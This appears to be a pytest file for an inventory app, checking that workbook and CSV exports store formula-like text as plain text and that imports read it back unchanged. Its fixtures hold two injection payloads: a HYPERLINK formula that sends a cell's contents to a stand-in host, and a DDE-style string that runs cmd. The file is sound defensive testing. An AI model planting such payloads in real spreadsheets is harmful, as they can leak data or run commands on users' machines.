"""Spreadsheets and CSV carry data, never formulas: text that looks like a formula is written as
text in every workbook the app makes, quoted in CSV, and read back unchanged by import."""

import csv
import io

from openpyxl import load_workbook

from hrsupply.cli import main
from hrsupply.db import open_database
from hrsupply.services import catalog, exchange, exports, movements, program, reconcile
from hrsupply.services.cells import csv_field
from hrsupply.services.ledger import Move
from tests.conftest import at

EVIL_NAME = '=HYPERLINK("http://x.invalid/?leak="&A1,"click")'
EVIL_REASON = "@SUM(1+1)*cmd|' /C calc'!A0"


def evil_stock(db):
    with db.write() as s:
        item = catalog.upsert_item(s, "EVIL", name=EVIL_NAME, category="=1+1")
        site = catalog.upsert_location(s, "SITE", "Fixed site", "site")
        s.flush()
        ids = item.id, site.id
    movements.record(
        db,
        "lead",
        [Move("receive", ids[0], ids[1], 10, at(1)), Move("adjust", ids[0], ids[1], -1, at(2), reason=EVIL_REASON)],
    )
    program.put(db, "admin", "program_name", "=1+1")


def formulas(path) -> list:
    book = load_workbook(path)
    return [
        (ws.title, c.coordinate, c.value) for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"
    ]


def test_csv_fields_that_look_like_formulas_are_quoted():
    assert csv_field("=1+1") == "'=1+1" and csv_field("@SUM(A1)") == "'@SUM(A1)"
    assert csv_field("+cmd") == "'+cmd" and csv_field("\tx") == "'\tx" and csv_field("\rx") == "'\rx"
    assert csv_field("-5") == "-5" and csv_field("+3") == "+3" and csv_field(-5) == -5  # numbers stay
    assert csv_field("-AB") == "'-AB" and csv_field("Syringe") == "Syringe"


def test_export_writes_text_as_text_and_import_reads_it_back(db, tmp_path, new_db_url):
    evil_stock(db)
    path = tmp_path / "export.xlsx"
    exchange.export_workbook(db, "admin", path)
    assert formulas(path) == []
    names = [row[1] for row in load_workbook(path)["Items"].iter_rows(min_row=2, values_only=True)]
    assert names == [EVIL_NAME]
    other = open_database(new_db_url("other"))
    exchange.import_workbook(other, path, "admin")
    with other.read() as s:
        from hrsupply.models import Item, Movement

        assert s.query(Item.name, Item.category).one() == (EVIL_NAME, "=1+1")
        assert EVIL_REASON in s.query(Movement.reason).filter(Movement.type == "adjust").scalar()
    other.dispose()


def test_reports_write_text_as_text(db, tmp_path):
    evil_stock(db)
    lines = reconcile.reconcile(db, at(1).date(), at(3).date())
    report = reconcile.report(
        lines,
        program=program.get(db, "program_name"),
        place="=1+1",
        start=at(1).date(),
        end=at(3).date(),
        units=catalog.units(db),
    )
    path = exports.write_xlsx(tmp_path / "r.xlsx", report)
    assert formulas(path) == []
    cells = {c.value for row in load_workbook(path).active.iter_rows() for c in row}
    assert EVIL_NAME in cells and report.subtitle in cells


def test_csv_output_quotes_formula_text(db, capsys, db_url):
    evil_stock(db)
    assert main(["--db", db_url, "stock", "--format", "csv"]) == 0
    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert row["name"] == "'" + EVIL_NAME
